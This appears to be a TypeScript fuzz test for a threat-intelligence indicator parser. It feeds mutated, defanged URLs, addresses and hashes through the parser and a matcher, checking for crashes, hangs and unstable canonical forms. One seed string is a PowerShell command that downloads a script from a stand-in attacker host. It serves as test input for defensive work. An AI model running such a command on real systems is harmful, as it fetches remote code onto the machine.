import { type Random, soak } from "@mizugiwa/proof";
import { Matcher, observe, readIndicator } from "./index.js";
import { madeMatcher } from "./matcher/made.fixture.js";

/** No text and no event may take longer. */
const LIMIT_MS = 1_000;

const SEEDS = [
  "hxxps://evil[.]example:8443/a/%2e%2e/b?c=%41#d",
  "2001:db8:[:]:1%eth0/64",
  "user(at)evil(dot)example",
  "::ffff:203.0.113.9",
  "「https://例え.テスト/パス」",
  "sha256=e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855",
  'powershell -c "iwr http://evil.example/a(b).ps1; ping 203.0.113.9" >> c:\\x.log',
];
const HOSTILE = "[](){}.:@/\\%?#\u0000\u00a0\u202e\ud800．。ｈ0aA- \n=;,".split("");

/** Texts bent, repeated and cut, as indicators and as events: no crash, no hang, and every canonical form stays itself. */
export default soak({
  name: "intel/mutated",
  sample: 2_000,
  full: 200_000,
  timeoutMs: 60_000,
  run: (rounds, random) => {
    const matcher = new Matcher(madeMatcher(1_000));
    let slowestMs = 0;
    let read = 0;
    for (let round = 0; round < rounds; round += 1) {
      const text = mutated(random);
      const start = performance.now();
      const item = readIndicator(text);
      if (item.ok) {
        read += 1;
        const again = readIndicator(item.value.key, item.value.type);
        if (!again.ok || again.value.key !== item.value.key)
          throw new Error(`${JSON.stringify(text)} is read in two ways`);
      }
      const { observables } = observe({ QueryName: text, message: text, other: [text], host: text, uri: `/${text}` });
      for (const seen of observables) matcher.find(seen);
      slowestMs = Math.max(slowestMs, performance.now() - start);
      if (slowestMs > LIMIT_MS)
        throw new Error(`${Math.round(slowestMs)} ms for ${JSON.stringify(text.slice(0, 100))}`);
    }
    if (read === 0) throw new Error("no text was an indicator: nothing was tested");
    return [`${read} of ${rounds} were indicators, the slowest took ${slowestMs.toFixed(1)} ms`];
  },
});

function mutated(random: Random): string {
  let text = random.pick(SEEDS);
  for (let change = random.below(6); change >= 0; change -= 1) {
    const at = random.below(text.length + 1);
    const kind = random.below(4);
    const piece = kind === 0 ? random.pick(HOSTILE) : random.pick(SEEDS).slice(0, random.below(12));
    if (kind === 1) text = text.slice(0, at) + text.slice(at + 1 + random.below(4));
    else if (kind === 2 && random.below(20) === 0)
      text = text.slice(0, at) + piece.repeat(random.below(2_000)) + text.slice(at);
    else text = text.slice(0, at) + piece + text.slice(at);
  }
  return text;
}
